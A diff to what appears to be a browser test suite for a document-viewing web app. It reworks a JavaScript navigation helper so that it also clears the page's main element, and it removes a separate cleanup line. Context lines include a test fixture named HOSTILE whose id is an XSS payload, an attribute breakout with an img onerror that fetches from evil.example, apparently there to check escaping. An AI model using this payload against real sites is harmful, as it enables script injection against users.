@@ -31,7 +31,12 @@ FLAGS = [
     "--use-gl=angle", "--use-angle=swiftshader", "--enable-unsafe-swiftshader", "--ignore-gpu-blocklist",
 ]  # fmt: skip
 AT = dt.datetime(2025, 3, 17, 9, tzinfo=dt.UTC)
-FOLLOW = "path => { const a = document.createElement('a'); a.href = path; document.body.append(a); a.click(); a.remove(); }"
+# Followed first, then emptied, in one step: what an earlier view says, or still shows late, must not be taken for what this one says.
+FOLLOW = """path => {
+  const a = document.createElement('a'), m = document.querySelector('main');
+  a.href = path; document.body.append(a); a.click(); a.remove();
+  delete m.dataset.at; m.replaceChildren();
+}"""
 HOSTILE = Document(
     id="hostile\"><img src=x onerror=fetch('//evil.example')>",
     text=(
@@ -118,8 +123,6 @@ class Seen:
         if self.page.url == "about:blank":
             self.page.goto(f"{self.base}{path}")
         else:
-            # what an earlier view says must not be taken for what this one says
-            self.page.evaluate("const m = document.querySelector('main'); delete m.dataset.at; m.replaceChildren()")
             self.page.evaluate(FOLLOW, path)
         self.page.wait_for_selector("main[data-at] h1, main .state.error")
         return self.page
